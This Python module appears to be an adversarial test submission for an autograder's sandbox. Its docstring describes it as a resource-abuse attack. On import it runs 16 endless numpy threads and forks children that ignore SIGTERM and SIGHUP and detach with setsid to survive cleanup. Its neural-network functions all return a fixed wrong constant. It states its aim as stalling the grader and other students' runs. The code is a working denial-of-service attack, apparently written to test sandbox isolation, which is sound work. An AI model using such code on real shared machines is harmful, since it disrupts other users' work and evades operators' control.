"""Resource abuse: burn every core with threads and processes, in the background.

Attack: at import the module starts 16 threads that apply numpy ufuncs to
large arrays forever (numpy releases the GIL, so they really run in parallel), forks 4
children that spin and ignore SIGTERM/SIGHUP,. Its functions answer quickly (with a wrong constant,
12345.678), so no call ever times out: the load is meant to slow down the
grader and every other student's worker on the machine for as long as
possible.

Success would look like: this submission's grading running far past its total
time limit, processes of the sandbox uid surviving the batch, honest students
after it crashing or timing out, or any points.
Backends: bwrap, docker
Unisolated: not promised; the subprocess backend sets no process limit and kills only the worker's process group
"""

import os
import signal
import threading

import numpy as np

W = 12345.678


def _burn():
    a = np.ones(200_000)
    while True:
        np.sin(a)


for _ in range(16):
    try:
        threading.Thread(target=_burn, daemon=True).start()
    except RuntimeError:
        break
for _ in range(4):
    try:
        if os.fork() == 0:
            signal.signal(signal.SIGTERM, signal.SIG_IGN)
            signal.signal(signal.SIGHUP, signal.SIG_IGN)
            os.setsid()
            while True:
                pass
    except OSError:
        break


def _w(shape):
    return np.full(shape, W)


def sigmoid(z):
    return _w(np.shape(z))


def sigmoid_grad(z):
    return _w(np.shape(z))


def tanh(z):
    return _w(np.shape(z))


def tanh_grad(z):
    return _w(np.shape(z))


def relu(z):
    return _w(np.shape(z))


def relu_grad(z):
    return _w(np.shape(z))


def leaky_relu(z, alpha=0.01):
    return _w(np.shape(z))


def leaky_relu_grad(z, alpha=0.01):
    return _w(np.shape(z))


def neuron(x, w, b, activation="sigmoid"):
    return _w(np.shape(x)[:-1])


def affine_forward(x, w, b):
    return _w((np.shape(x)[0], np.shape(w)[1])), None


def mlp_forward(x, params, activation="relu"):
    return _w((np.shape(x)[0], np.shape(params[-1][0])[1]))
